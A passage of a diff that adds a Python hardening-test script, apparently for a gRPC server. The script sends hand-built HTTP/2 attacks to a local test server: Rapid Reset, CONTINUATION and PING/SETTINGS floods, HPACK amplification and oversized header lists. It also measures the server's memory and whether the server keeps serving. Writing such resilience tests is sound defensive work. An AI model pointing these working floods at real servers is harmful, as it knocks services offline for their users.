@@ -1,0 +1,1203 @@
+#!/usr/bin/env python3
+"""Attacks on a gRPC server over cleartext HTTP/2 (grpc.testing.TestService on 127.0.0.1), for Ferry's
+HardeningTests and scripts/attack-report.sh.
+
+h2_attacks.py --list                          prints the attack names, one a line
+h2_attacks.py ATTACK --port N [--server-pid P] [--canary]
+                                              runs one attack against the server listening on port N
+
+Each attack drives a raw HTTP/2 client (python h2 for well-formed traffic, hand-made frames and HPACK
+bytes where h2 would refuse to misbehave) and prints one line
+
+    RESULT attack=NAME pass=yes|no alive=yes|no canary_during=ok|fail|skipped canary_after=...
+           rss_before_kib=... rss_peak_kib=... rss_after_kib=... rss_bound=... goaway=0xb ... reason="..."
+
+then exits 0 when the server did what the attack expects (see each attack's docstring), survived, kept
+answering a normal call (EmptyCall on a fresh connection, with --canary) during and after the attack, and
+its RSS (VmRSS from /proc/P/status; P found from the listening port when --server-pid is not given) stayed
+within the bound; it exits 1 otherwise, the reason saying what went wrong. Every loop is bounded in count
+and in wall time; each attack ends well within 60 s.
+"""
+import argparse
+import collections
+import os
+import re
+import resource
+import select
+import selectors
+import socket
+import struct
+import sys
+import threading
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.exceptions
+import h2.settings
+import hpack
+
+HOST = "127.0.0.1"
+SERVICE = "/grpc.testing.TestService/"
+KiB = 1024
+MiB = 1024 * 1024
+# How far the server's RSS may rise above its level before an attack (peak - before).
+ATTACK_RSS_BOUND_KIB = 64 * KiB
+# soak-concurrent: RSS after all connections closed, relative to before.
+SOAK_CONCURRENT_RATIO = 1.10
+# soak-sequential: RSS after 10,000 connections, absolute rise.
+SOAK_SEQUENTIAL_BOUND_KIB = 8 * KiB
+
+# Frame types and flags (RFC 9113, section 6).
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+END_STREAM = 0x1
+ACK = 0x1
+END_HEADERS = 0x4
+PADDED = 0x8
+PRIORITY_FLAG = 0x20
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+ERROR_NAMES = {
+    0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
+    0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
+    0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
+    0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED",
+}
+SETTING_MAX_HEADER_LIST_SIZE = 0x6
+
+
+def now():
+    return time.monotonic()
+
+
+# ------------------------------------------------------------------------------------------ wire helpers
+
+def frame(kind, flags, stream, payload=b""):
+    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream & 0x7FFFFFFF) + payload
+
+
+def hpack_integer(value, prefix_bits, first_byte):
+    """HPACK's prefixed integer (RFC 7541, 5.1)."""
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first_byte | value])
+    out = bytearray([first_byte | limit])
+    value -= limit
+    while value >= 128:
+        out.append((value & 0x7F) | 0x80)
+        value >>= 7
+    out.append(value)
+    return bytes(out)
+
+
+def hpack_string(data):
+    """An HPACK string literal without Huffman coding."""
+    return hpack_integer(len(data), 7, 0x00) + data
+
+
+def literal(name, value, indexing=False):
+    """A literal header field with a new name, with incremental indexing (0x40) or without (0x00)."""
+    return bytes([0x40 if indexing else 0x00]) + hpack_string(name) + hpack_string(value)
+
+
+def request_block(port, method):
+    """The header block of a gRPC request, state-free: static :method POST and :scheme http, the rest
+    literals without indexing, so the same bytes are valid on any connection at any time."""
+    return (b"\x83\x86" + literal(b":path", (SERVICE + method).encode())
+            + literal(b":authority", f"{HOST}:{port}".encode())
+            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))
+
+
+def grpc_message(payload, declared=None):
+    """A length-prefixed gRPC message (uncompressed); `declared` overrides the length in the prefix."""
+    return b"\x00" + struct.pack(">I", len(payload) if declared is None else declared) + payload
+
+
+def simple_request():
+    """grpc.testing.SimpleRequest{response_size: 16, payload: {body: 16 bytes}}, encoded by hand."""
+    body = b"\x12\x10" + b"p" * 16
+    return b"\x10\x10" + b"\x1a" + bytes([len(body)]) + body
+
+
+def goaway_text(goaway):
+    return "none" if goaway is None else f"0x{goaway[1]:x}"
+
+
+def error_name(code):
+    return ERROR_NAMES.get(code, f"0x{code:x}")
+
+
+# ------------------------------------------------------------------------------------------ raw client
+
+class RawConnection:
+    """A socket that speaks HTTP/2 frames directly: what it sends is exactly what the caller builds;
+    what arrives is parsed into GOAWAY, RST_STREAM, response headers (HPACK-decoded) and counts.
+    SETTINGS and PING are acknowledged unless `auto_ack` is off."""
+
+    def __init__(self, port, timeout=5.0):
+        self.sock = socket.create_connection((HOST, port), timeout=timeout)
+        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.sock.setblocking(False)
+        self.inbox = bytearray()
+        self.outbox = bytearray()
+        self.decoder = hpack.Decoder()
+        self.decoder.max_header_list_size = 64 * MiB
+        self.auto_ack = True
+        self.closed = False
+        self.close_reason = ""
+        self.goaway = None  # (last stream id, error code, debug data)
+        self.resets = {}  # stream -> error code
+        self.headers = collections.defaultdict(list)  # stream -> [[(name, value), ...], ...]
+        self.ended = set()
+        self.settings = {}
+        self.settings_seen = False
+        self.counts = collections.Counter()
+        self.block = None  # (stream, end_stream, bytearray) while a header block continues
+
+    def close(self):
+        try:
+            self.sock.close()
+        except OSError:
+            pass
+
+    def send(self, data, timeout=5.0):
+        """Queues `data` and sends what it can within `timeout`; True once everything went out."""
+        self.outbox += data
+        return self.flush(timeout)
+
+    def flush(self, timeout=0.0):
+        deadline = now() + timeout
+        while self.outbox and not self.closed:
+            try:
+                sent = self.sock.send(self.outbox)
+                del self.outbox[:sent]
+                continue
+            except BlockingIOError:
+                pass
+            except OSError as error:
+                self.mark_closed(f"send: {error.strerror or error}")
+                break
+            remaining = deadline - now()
+            if remaining <= 0:
+                return False
+            select.select([], [self.sock], [], min(remaining, 0.1))
+        return not self.outbox
+
+    def mark_closed(self, reason):
+        self.closed = True
+        self.close_reason = self.close_reason or reason
+        self.outbox.clear()
+
+    def receive(self, timeout=0.0, limit=64 * MiB):
+        """Waits at most `timeout` for bytes, then reads what is there (at most `limit` bytes)."""
+        if self.closed:
+            return False
+        try:
+            readable, _, _ = select.select([self.sock], [], [], max(timeout, 0))
+        except (OSError, ValueError):
+            self.mark_closed("select failed")
+            return False
+        return self.read_available(limit) if readable else False
+
+    def read_available(self, limit=64 * MiB):
+        got = False
+        total = 0
+        while not self.closed and total < limit:
+            try:
+                data = self.sock.recv(256 * KiB)
+            except BlockingIOError:
+                break
+            except OSError as error:
+                self.mark_closed(f"recv: {error.strerror or error}")
+                break
+            if not data:
+                self.mark_closed("eof")
+                break
+            got = True
+            total += len(data)
+            self.inbox += data
+            self.parse()
+        if self.outbox:
+            self.flush(0)
+        return got
+
+    def parse(self):
+        offset = 0
+        while len(self.inbox) - offset >= 9:
+            length = int.from_bytes(self.inbox[offset:offset + 3], "big")
+            if len(self.inbox) - offset < 9 + length:
+                break
+            kind, flags = self.inbox[offset + 3], self.inbox[offset + 4]
+            stream = int.from_bytes(self.inbox[offset + 5:offset + 9], "big") & 0x7FFFFFFF
+            payload = bytes(self.inbox[offset + 9:offset + 9 + length])
+            offset += 9 + length
+            self.handle(kind, flags, stream, payload)
+        del self.inbox[:offset]
+
+    def handle(self, kind, flags, stream, payload):
+        self.counts[kind] += 1
+        if kind == SETTINGS and not flags & ACK:
+            for index in range(0, len(payload) - 5, 6):
+                key, value = struct.unpack(">HI", payload[index:index + 6])
+                self.settings[key] = value
+            self.settings_seen = True
+            if self.auto_ack:
+                self.outbox += frame(SETTINGS, ACK, 0)
+        elif kind == PING and not flags & ACK:
+            if self.auto_ack:
+                self.outbox += frame(PING, ACK, 0, payload)
+        elif kind == GOAWAY and len(payload) >= 8:
+            last, code = struct.unpack(">II", payload[:8])
+            self.goaway = (last & 0x7FFFFFFF, code, payload[8:])
+        elif kind == RST_STREAM and len(payload) == 4:
+            self.resets[stream] = struct.unpack(">I", payload)[0]
+        elif kind == HEADERS:
+            block = payload
+            if flags & PADDED and block:
+                block = block[1:len(block) - block[0]]
+            if flags & PRIORITY_FLAG:
+                block = block[5:]
+            self.block = (stream, bool(flags & END_STREAM), bytearray(block))
+            if flags & END_HEADERS:
+                self.finish_block()
+        elif kind == CONTINUATION and self.block is not None:
+            self.block[2].extend(payload)
+            if flags & END_HEADERS:
+                self.finish_block()
+        elif kind == DATA:
+            self.counts["data_bytes"] += len(payload)
+            if flags & END_STREAM:
+                self.ended.add(stream)
+
+    def finish_block(self):
+        stream, end_stream, block = self.block
+        self.block = None
+        try:
+            self.headers[stream].append([(n.decode("latin-1"), v.decode("latin-1")) for n, v in
+                                         self.decoder.decode(bytes(block), raw=True)])
+        except Exception as error:  # noqa: BLE001 - a broken block from the server is a finding, not a crash
+            self.headers[stream].append([("x-decode-error", str(error))])
+        if end_stream:
+            self.ended.add(stream)
+
+    def header(self, stream, name):
+        """The last value of `name` in the stream's header blocks (trailers win over headers)."""
+        found = None
+        for block in self.headers.get(stream, []):
+            for key, value in block:
+                if key == name:
+                    found = value
+        return found
+
+    def handshake(self, timeout=5.0, settings=b""):
+        """Sends the preface and SETTINGS; waits for the server's SETTINGS. True when they came."""
+        self.send(PREFACE + frame(SETTINGS, 0, 0, settings), timeout)
+        deadline = now() + timeout
+        while not self.settings_seen and not self.closed and now() < deadline:
+            self.receive(min(0.1, deadline - now()))
+        return self.settings_seen
+
+    def wait_closed(self, timeout):
+        """Reads until the server closes the connection (at most `timeout`; 1 s more after a GOAWAY)."""
+        deadline = now() + timeout
+        while not self.closed and now() < deadline:
+            if self.goaway is not None:
+                deadline = min(deadline, now() + 1.0)
+            self.receive(min(0.1, max(deadline - now(), 0)))
+        return self.closed
+
+
+def unary_call_bytes(port, streams, method="UnaryCall"):
+    """Everything a client sends for `streams` unary calls on a new connection (streams 1, 3, ...)."""
+    block = request_block(port, method)
+    message = grpc_message(simple_request() if method == "UnaryCall" else b"")
+    out = bytearray(PREFACE + frame(SETTINGS, 0, 0))
+    for index in range(streams):
+        stream = 1 + 2 * index
+        out += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
+    return bytes(out)
+
+
+# ------------------------------------------------------------------------------------------- h2 client
+
+class H2Client:
+    """A well-behaved client on python h2, for attacks made of legal frames: the library keeps the
+    flow-control windows and stream states, so pushing data means pushing what the server allows."""
+
+    def __init__(self, port, timeout=5.0):
+        self.port = port
+        self.sock = socket.create_connection((HOST, port), timeout=timeout)
+        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.sock.setblocking(False)
+        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
+                                           validate_outbound_headers=False, normalize_outbound_headers=False)
+        self.conn = h2.connection.H2Connection(config=config)
+        self.conn.initiate_connection()
+        self.outbox = bytearray()
+        self.closed = False
+        self.error = ""
+        self.goaway = None
+        self.settings_seen = False
+        self.streams = {}
+        self.sent = 0  # bytes the socket took, frame headers included
+        self.flush(timeout)
+
+    def close(self):
+        try:
+            self.sock.close()
+        except OSError:
+            pass
+
+    def state(self, stream):
+        return self.streams.setdefault(stream, {"headers": [], "ended": False, "reset": None, "data": 0})
+
+    def open(self, method, extra=(), end_stream=False):
+        stream = self.conn.get_next_available_stream_id()
+        headers = [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method),
+                   (":authority", f"{HOST}:{self.port}"), ("content-type", "application/grpc"), ("te", "trailers")]
+        self.conn.send_headers(stream, headers + list(extra), end_stream=end_stream)
+        self.state(stream)
+        return stream
+
+    def flush(self, timeout=0.0):
+        """Sends what h2 queued, within `timeout`; False when the socket would not take it all."""
+        self.outbox += self.conn.data_to_send()
+        deadline = now() + timeout
+        while self.outbox and not self.closed:
+            try:
+                sent = self.sock.send(self.outbox)
+                del self.outbox[:sent]
+                self.sent += sent
+                continue
+            except BlockingIOError:
+                pass
+            except OSError as error:
+                self.closed, self.error = True, self.error or f"send: {error.strerror or error}"
+                break
+            remaining = deadline - now()
+            if remaining <= 0:
+                return False
+            select.select([], [self.sock], [], min(remaining, 0.1))
+        return not self.outbox
+
+    def pump(self, timeout=0.0):
+        """Waits at most `timeout` for bytes, feeds everything available to h2, answers what it needs."""
+        if self.closed:
+            return
+        readable, _, _ = select.select([self.sock], [], [], max(timeout, 0))
+        for _ in range(256) if readable else ():
+            try:
+                data = self.sock.recv(256 * KiB)
+            except BlockingIOError:
+                break
+            except OSError as error:
+                self.closed, self.error = True, self.error or f"recv: {error.strerror or error}"
+                break
+            if not data:
+                self.closed, self.error = True, self.error or "eof"
+                break
+            try:
+                events = self.conn.receive_data(data)
+            except h2.exceptions.ProtocolError as error:
+                self.closed, self.error = True, f"h2: {error}"
+                break
+            for event in events:
+                self.on_event(event)
+        self.flush(0)
+
+    def on_event(self, event):
+        if isinstance(event, h2.events.RemoteSettingsChanged):
+            self.settings_seen = True
+        elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
+            self.state(event.stream_id)["headers"].extend(event.headers)
+        elif isinstance(event, h2.events.DataReceived):
+            self.state(event.stream_id)["data"] += len(event.data)
+            if event.flow_controlled_length:
+                try:
+                    self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
+                except h2.exceptions.ProtocolError:
+                    pass
+        elif isinstance(event, h2.events.StreamEnded):
+            self.state(event.stream_id)["ended"] = True
+        elif isinstance(event, h2.events.StreamReset):
+            self.state(event.stream_id)["reset"] = event.error_code
+        elif isinstance(event, h2.events.ConnectionTerminated):
+            self.goaway = (event.last_stream_id or 0, int(event.error_code), event.additional_data or b"")
+
+    def header(self, stream, name):
+        found = None
+        for key, value in self.streams.get(stream, {}).get("headers", []):
+            if key == name:
+                found = value
+        return found
+
+    def wait_settings(self, timeout=5.0):
+        deadline = now() + timeout
+        while not self.settings_seen and not self.closed and now() < deadline:
+            self.pump(min(0.1, deadline - now()))
+        return self.settings_seen
+
+    def finished(self, stream):
+        state = self.streams.get(stream, {})
+        return state.get("ended") or state.get("reset") is not None
+
+
+def canary_call(port, timeout=10.0):
+    """One normal EmptyCall on a fresh connection; (True, "ok") when it returns grpc-status 0."""
+    deadline = now() + timeout
+    try:
+        client = H2Client(port, timeout)
+    except OSError as error:
+        return False, f"connect: {error.strerror or error}"
+    try:
+        stream = client.open("EmptyCall")
+        client.conn.send_data(stream, grpc_message(b""), end_stream=True)
+        client.flush(timeout)
+        while not client.finished(stream) and not client.closed and now() < deadline:
+            client.pump(min(0.1, deadline - now()))
+        status = client.header(stream, "grpc-status")
+        if status == "0" and client.streams[stream]["data"] >= 5:
+            return True, "ok"
+        if not client.finished(stream):
+            return False, client.error or "no answer in time"
+        return False, f"grpc-status={status} reset={client.streams[stream]['reset']}"
+    except (OSError, h2.exceptions.ProtocolError) as error:
+        return False, f"{type(error).__name__}: {error}"
+    finally:
+        client.close()
+
+
+# ------------------------------------------------------------------------------------ server watching
+
+def find_server_pid(port):
+    """The pid of the process listening on 127.0.0.1:port (or any address), from /proc/net/tcp*."""
+    inodes = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            with open(table) as handle:
+                next(handle)
+                for line in handle:
+                    fields = line.split()
+                    if fields[3] == "0A" and int(fields[1].rsplit(":", 1)[1], 16) == port:
+                        inodes.add(fields[9])
+        except OSError:
+            continue
+    targets = {f"socket:[{inode}]" for inode in inodes}
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            for fd in os.listdir(f"/proc/{pid}/fd"):
+                if os.readlink(f"/proc/{pid}/fd/{fd}") in targets:
+                    return int(pid)
+        except OSError:
+            continue
+    return None
+
+
+class Watch:
+    """The server under attack: its RSS before, at peak (sampled every 50 ms) and after, whether it is
+    still alive, and the canary calls."""
+
+    def __init__(self, port, pid, canary):
+        self.port = port
+        self.pid = pid
+        self.canary = canary
+        self.peak = None
+        self.sampling = False
+        self.sampler = None
+        self.during = None
+        self.during_result = None
+
+    def rss(self):
+        if self.pid is None:
+            return None
+        try:
+            with open(f"/proc/{self.pid}/status") as handle:
+                for line in handle:
+                    if line.startswith("VmRSS:"):
+                        return int(line.split()[1])
+        except OSError:
+            return None
+        return None
+
+    def alive(self):
+        if self.pid is None:
+            return None
+        try:
+            with open(f"/proc/{self.pid}/stat") as handle:
+                return handle.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
+        except OSError:
+            return False
+
+    def fd_limit(self):
+        try:
+            with open(f"/proc/{self.pid}/limits") as handle:
+                for line in handle:
+                    if line.startswith("Max open files"):
+                        return int(line.split()[3])
+        except (OSError, ValueError, TypeError):
+            return None
+        return None
+
+    def settle(self, seconds=3.0, target=None):
+        """Polls RSS for at most `seconds` until it stops falling (or reaches `target`); the last sample."""
+        deadline = now() + seconds
+        last = self.rss()
+        while last is not None and now() < deadline:
+            if target is not None and last <= target:
+                break
+            time.sleep(0.25)
+            current = self.rss()
+            if current is None:
+                return last
+            if target is None and abs(current - last) < 256:
+                return current
+            last = current
+        return last
+
+    def start_sampling(self):
+        self.peak = self.rss()
+        self.sampling = True
+
+        def sample():
+            deadline = now() + 120
+            while self.sampling and now() < deadline:
+                value = self.rss()
+                if value is not None and (self.peak is None or value > self.peak):
+                    self.peak = value
+                time.sleep(0.05)
+
+        self.sampler = threading.Thread(target=sample, daemon=True)
+        self.sampler.start()
+
+    def stop_sampling(self):
+        self.sampling = False
+        if self.sampler:
+            self.sampler.join(timeout=2)
+        value = self.rss()
+        if value is not None and (self.peak is None or value > self.peak):
+            self.peak = value
+
+    def launch_canary(self, delay=0.0):
+        """Starts the during-attack canary call on its own thread, `delay` seconds from now."""
+        if not self.canary or self.during is not None:
+            return
+
+        def run():
+            time.sleep(delay)
+            self.during_result = canary_call(self.port, timeout=15.0)
+
+        self.during = threading.Thread(target=run, daemon=True)
+        self.during.start()
+
+    def wait_canary(self, timeout=20.0):
+        if self.during is not None:
+            self.during.join(timeout=timeout)
+            if self.during_result is None:
+                self.during_result = (False, "canary did not finish")
+
+
+class Outcome:
+    """What one attack saw: whether the server answered as expected, why not, and the fields to print."""
+
+    def __init__(self):
+        self.expected = True
+        self.reasons = []
+        self.fields = {}
+
+    def fail(self, reason):
+        self.expected = False
+        self.reasons.append(reason)
+
+    def note(self, **fields):
+        self.fields.update(fields)
+
+
+# ---------------------------------------------------------------------------------------------- attacks
+
+def attack_unread_after_status(watch, outcome):
+    """100 streams call a method that does not exist (answered UNIMPLEMENTED) and are never ended; for
+    2 s the client pushes DATA on them as fast as the windows allow. Expected: each stream is reset after
+    its status (RST_STREAM), so the client can push little (at most 32 MiB)."""
+    client = H2Client(watch.port)
+    try:
+        client.wait_settings()
+        streams = []
+        for _ in range(100):
+            try:
+                streams.append(client.open("NoSuchMethod"))
+            except h2.exceptions.ProtocolError as error:
+                outcome.note(open_error=type(error).__name__)
+                break
+        client.flush(5)
+        watch.launch_canary(delay=0.8)
+        chunk = bytes(64 * KiB)
+        rounds = 0
+        start = client.sent
+        deadline = now() + 2.0
+        while now() < deadline and not client.closed and rounds < 1_000_000:
+            rounds += 1
+            progressed = False
+            for stream in streams:
+                if len(client.outbox) >= MiB:
+                    break
+                if client.streams[stream]["reset"] is not None:
+                    continue
+                try:
+                    window = min(client.conn.local_flow_control_window(stream), client.conn.max_outbound_frame_size,
+                                 len(chunk))
+                    if window > 0:
+                        client.conn.send_data(stream, chunk[:window])
+                        progressed = True
+                except h2.exceptions.ProtocolError:
+                    continue
+            client.flush(min(0.05, max(deadline - now(), 0.0)))
+            client.pump(0 if progressed else 0.02)
+        pushed = client.sent - start
+        settle = now() + 1.0
+        while now() < settle and not client.closed and not all(client.finished(s) for s in streams):
+            client.pump(0.05)
+        watch.wait_canary()
+        resets = [client.streams[s]["reset"] for s in streams if client.streams[s]["reset"] is not None]
+        statuses = sum(1 for s in streams if client.header(s, "grpc-status") is not None)
+        codes = collections.Counter(error_name(code) for code in resets)
+        outcome.note(streams=len(streams), statuses=statuses, resets=len(resets),
+                     reset_codes="+".join(f"{k}:{v}" for k, v in sorted(codes.items())) or "none",
+                     pushed_mib=f"{pushed / MiB:.1f}", goaway=goaway_text(client.goaway))
+        if len(streams) < 100:
+            outcome.fail(f"only {len(streams)} streams could be opened")
+        if len(resets) < len(streams) and client.goaway is None:
+            outcome.fail(f"{len(streams) - len(resets)} of {len(streams)} streams were never reset after their status")
+        if pushed > 32 * MiB:
+            outcome.fail(f"the server took {pushed / MiB:.0f} MiB on streams it had already answered (bound 32 MiB)")
+    finally:
+        client.close()
+
+
+def attack_unfinished_large(watch, outcome):
+    """100 streams to StreamingInputCall each send 4 MiB - 1 KiB of one message declared as 4 MiB (the
+    default limit, so no size check refuses it), never completing it nor ending the stream; at most
+    10 s of pushing. Expected: the server does not buffer it all (RSS within the bound)."""
+    client = H2Client(watch.port)
+    try:
+        client.wait_settings()
+        streams = {}
+        for _ in range(100):
+            try:
+                stream = client.open("StreamingInputCall")
+            except h2.exceptions.ProtocolError as error:
+                outcome.note(open_error=type(error).__name__)
+                break
+            streams[stream] = bytearray(grpc_message(b"", declared=4 * MiB)) + bytes(4 * MiB - KiB)
+        client.flush(5)
+        watch.launch_canary(delay=1.0)
+        start = client.sent
+        deadline = now() + 10.0
+        last_progress = now()
+        while now() < deadline and not client.closed and now() - last_progress < 2.0:
+            if not any(streams.values()) and not client.outbox:
+                break
+            progressed = False
+            for stream, rest in streams.items():
+                if len(client.outbox) >= MiB:
+                    break
+                if not rest or client.streams[stream]["reset"] is not None:
+                    continue
+                try:
+                    window = min(client.conn.local_flow_control_window(stream), client.conn.max_outbound_frame_size,
+                                 len(rest), 256 * KiB)
+                    if window > 0:
+                        client.conn.send_data(stream, bytes(rest[:window]))
+                        del rest[:window]
+                        progressed = True
+                except h2.exceptions.ProtocolError:
+                    continue
+            before = client.sent
+            client.flush(min(0.05, max(deadline - now(), 0.0)))
+            if progressed or client.sent > before:
+                last_progress = now()
+            client.pump(0 if progressed else 0.02)
+        pushed = client.sent - start
+        hold = now() + 1.5
+        while now() < hold and not client.closed:
+            client.pump(0.1)
+        watch.wait_canary()
+        resets = sum(1 for s in streams if client.streams[s]["reset"] is not None)
+        answered = sum(1 for s in streams if client.header(s, "grpc-status") is not None)
+        outcome.note(streams=len(streams), pushed_mib=f"{pushed / MiB:.1f}", resets=resets, statuses=answered,
+                     goaway=goaway_text(client.goaway))
+    finally:
+        client.close()
+
+
+def attack_header_list(watch, outcome):
+    """One EmptyCall request carrying 10,000 small headers (~400 KiB, far over any sane
+    SETTINGS_MAX_HEADER_LIST_SIZE). Expected: refused (stream reset, GOAWAY, :status 431 or a non-OK
+    grpc-status), not served."""
+    client = H2Client(watch.port)
+    try:
+        client.wait_settings()
+        limit = client.conn.remote_settings.get(SETTING_MAX_HEADER_LIST_SIZE)
+        extra = [(f"x-pad-{index:05d}", "v" * 28) for index in range(10_000)]
+        watch.launch_canary(delay=0.2)
+        stream = client.open("EmptyCall", extra)
+        client.conn.send_data(stream, grpc_message(b""), end_stream=True)
+        client.flush(10)
+        deadline = now() + 5.0
+        while now() < deadline and not client.closed and not client.finished(stream) and client.goaway is None:
+            client.pump(0.1)
+        watch.wait_canary()
+        state = client.streams[stream]
+        status, http = client.header(stream, "grpc-status"), client.header(stream, ":status")
+        outcome.note(server_max_header_list=limit if limit is not None else "unset", http_status=http or "none",
+                     grpc_status=status or "none", reset=error_name(state["reset"]) if state["reset"] is not None
+                     else "none", goaway=goaway_text(client.goaway),
+                     closed=re.sub(r"\s", "_", client.error) if client.closed else "no")
+        if status == "0":
+            outcome.fail("a request with 10,000 headers (~400 KiB) was served (grpc-status 0)")
+        elif state["reset"] is None and client.goaway is None and not client.closed and status is None \
+                and http in (None, "200"):
+            outcome.fail("no answer within 5 s: neither refused nor served")
+    finally:
+        client.close()
+
+
+def attack_hpack_amplification(watch, outcome):
+    """One ~4 KiB header enters the HPACK dynamic table once; then 100 EmptyCall requests each reference
+    it 1,000 times (1-byte indexed fields), so ~1 KiB of header block decodes to ~3.9 MiB. Expected:
+    none is served; the server refuses the requests or the connection, and its RSS stays bounded."""
+    conn = RawConnection(watch.port)
+    try:
+        conn.handshake()
+        insert = literal(b"x-amp", b"a" * 4000, indexing=True)  # 5 + 4000 + 32 bytes of the 4,096-byte table
+        base = request_block(watch.port, "EmptyCall")
+        references = b"\xbe" * 1000  # index 62: the newest dynamic entry
+        watch.launch_canary(delay=0.3)
+        sent = 0
+        for index in range(100):
+            if conn.closed or conn.goaway is not None:
+                break
+            stream = 1 + 2 * index
+            block = (insert if index == 0 else b"") + base + references
+            conn.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, grpc_message(b"")),
+                      timeout=2)
+            sent += 1
+            conn.receive(0)
+        deadline = now() + 5.0
+        streams = [1 + 2 * index for index in range(sent)]
+        while now() < deadline and not conn.closed and conn.goaway is None and \
+                not all(s in conn.ended or s in conn.resets for s in streams):
+            conn.receive(0.1)
+        watch.wait_canary()
+        served = sum(1 for s in streams if conn.header(s, "grpc-status") == "0")
+        outcome.note(requests=sent, decoded_mib_each=f"{1000 * 4005 / MiB:.1f}", served=served,
+                     resets=len(conn.resets), goaway=goaway_text(conn.goaway))
+        if served:
+            outcome.fail(f"{served} of {sent} requests decoding to ~3.8 MiB of headers each were served")
+    finally:
+        conn.close()
+
+
+def attack_rapid_reset(watch, outcome):
+    """CVE-2023-44487: up to 20,000 streams opened and at once cancelled (HEADERS, RST_STREAM CANCEL), in
+    batches of 100, for at most 10 s. Expected: GOAWAY ENHANCE_YOUR_CALM (0xb)."""
+    conn = RawConnection(watch.port)
+    try:
+        conn.handshake()
+        block = request_block(watch.port, "EmptyCall")
+        cancel = struct.pack(">I", 0x8)
+        watch.launch_canary(delay=0.3)
+        stream, opened = 1, 0
+        deadline = now() + 10.0
+        while opened < 20_000 and now() < deadline and not conn.closed and conn.goaway is None:
+            batch = bytearray()
+            for _ in range(100):
+                batch += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
+                stream += 2
+            if not conn.send(batch, timeout=2):
+                outcome.note(stalled="yes")
+                break
+            opened += 100
+            conn.receive(0)
+        conn.wait_closed(3)
+        watch.wait_canary()
+        outcome.note(streams_sent=opened, goaway=goaway_text(conn.goaway),
+                     streams_before_goaway=(conn.goaway[0] + 1) // 2 if conn.goaway else "none",
+                     closed=conn.close_reason.replace(" ", "_") if conn.closed else "no")
+        if conn.goaway is None:
+            outcome.fail(f"no GOAWAY after {opened} opened-and-cancelled streams")
+        elif conn.goaway[1] != 0xB:
+            outcome.fail(f"GOAWAY {error_name(conn.goaway[1])} after {(conn.goaway[0] + 1) // 2} streams, "
+                         "expected ENHANCE_YOUR_CALM")
+    finally:
+        conn.close()
+
+
+def attack_continuation_flood(watch, outcome):
+    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB of small literal headers, never
+    ending the block: at most 4,000 frames (64 MiB) or 10 s. Expected: the server ends the connection
+    with a GOAWAY."""
+    conn = RawConnection(watch.port)
+    try:
+        conn.handshake()
+        piece = bytearray()
+        index = 0
+        while len(piece) < 16_000:
+            piece += literal(f"x-c-{index:04d}".encode(), b"v" * 40)
+            index += 1
+        piece = bytes(piece)
+        watch.launch_canary(delay=0.3)
+        conn.send(frame(HEADERS, 0, 1, request_block(watch.port, "EmptyCall")))
+        frames = 0
+        deadline = now() + 10.0
+        while frames < 4_000 and now() < deadline and not conn.closed and conn.goaway is None:
+            if not conn.send(frame(CONTINUATION, 0, 1, piece), timeout=2):
+                outcome.note(stalled="yes")
+                break
+            frames += 1
+            conn.receive(0)
+        conn.wait_closed(3)
+        watch.wait_canary()
+        outcome.note(continuation_frames=frames, continuation_mib=f"{frames * len(piece) / MiB:.1f}",
+                     goaway=goaway_text(conn.goaway), closed=conn.close_reason.replace(" ", "_") if conn.closed else "no")
+        if conn.goaway is None:
+            outcome.fail(f"no GOAWAY after {frames} CONTINUATION frames ({frames * len(piece) / MiB:.0f} MiB)"
+                         + ("; the connection was closed" if conn.closed else "; the connection stays open"))
+    finally:
+        conn.close()
+
+
+def flood(watch, outcome, unit, name):
+    """Sends `unit` frames (up to 2,000,000, 5 s) without reading a byte, then reads for at most 5 s.
+    Expected: the server ends the connection, preferably with GOAWAY ENHANCE_YOUR_CALM."""
+    conn = RawConnection(watch.port)
+    try:
+        conn.handshake()
+        conn.receive(0.2)
+        conn.auto_ack = False
+        batch = unit * 5_000
+        sent = 0
+        watch.launch_canary(delay=0.5)
+        deadline = now() + 5.0
+        while sent < 2_000_000 and now() < deadline and not conn.closed:
+            if not conn.send(batch, timeout=1.0):
+                outcome.note(stalled="yes")
+                break
+            sent += 5_000
+        ended_while_flooding = conn.closed
+        watch.wait_canary()
+        conn.outbox.clear()
+        deadline = now() + 5.0
+        while not conn.closed and now() < deadline:
+            if conn.goaway is not None:
+                deadline = min(deadline, now() + 1.0)
+            conn.receive(0.1)
+        acks = conn.counts[SETTINGS if name == "settings" else PING]
+        outcome.note(frames_sent=sent, acks_read=acks, goaway=goaway_text(conn.goaway),
+                     closed=conn.close_reason.replace(" ", "_") if conn.closed else "no",
+                     calm="yes" if conn.goaway and conn.goaway[1] == 0xB else "no")
